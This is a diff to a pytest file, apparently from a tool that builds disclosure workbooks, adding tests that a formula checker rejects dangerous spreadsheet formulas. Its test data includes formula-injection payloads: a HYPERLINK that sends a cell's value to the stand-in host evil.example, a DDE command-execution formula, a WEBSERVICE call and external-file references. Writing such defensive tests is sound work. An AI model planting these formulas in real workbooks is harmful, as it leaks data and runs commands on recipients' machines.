@@ -12,6 +12,7 @@ import pytest
 from lxml import html
 
 from disclosure_batch.outputs.marked import ENDING as MARKED
+from disclosure_batch.outputs.marked import is_harmless
 from tests.district import FORM, YEAR, District, Run, cell_of
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"请点击")'
@@ -83,10 +84,30 @@ def test_no_formula_of_theirs_is_live_in_a_workbook_of_ours(run: Run):
             assert not live_formulas(path), path.name
 
 
-@pytest.mark.xfail(reason="a marked copy is their own workbook, with the formulas they have typed")
-def test_no_formula_of_theirs_is_live_in_a_marked_copy(run: Run):
-    for path in outputs(run, MARKED):
+def test_a_marked_copy_calculates_and_does_nothing_else(run: Run):
+    """It is their own workbook; what reaches out of it is text there."""
+    copies = outputs(run, MARKED)
+    assert copies
+    for path in copies:
         assert not live_formulas(path), path.name
+
+
+@pytest.mark.parametrize(
+    ("formula", "harmless"),
+    [
+        ("=SUM(D7:I7)", True),
+        ("=ROUND('三、依申请公开'!D7/2,0)+B$6", True),
+        ('=IF(D7>0,"有[1]|http://","无")', True),
+        ('=HYPERLINK("http://evil.example")', False),
+        ("=cmd|' /C calc'!A0", False),
+        ("=[1]表!A1", False),
+        ("='C:\\资料\\[上年.xlsx]表'!A1", False),
+        ('=_xlfn.WEBSERVICE("http://evil.example")', False),
+        ("=INDIRECT(A1)", False),
+    ],
+)
+def test_what_a_formula_may_do(formula, harmless):
+    assert is_harmless(formula) == harmless
 
 
 def test_the_consolidated_workbook_says_their_words(run: Run):
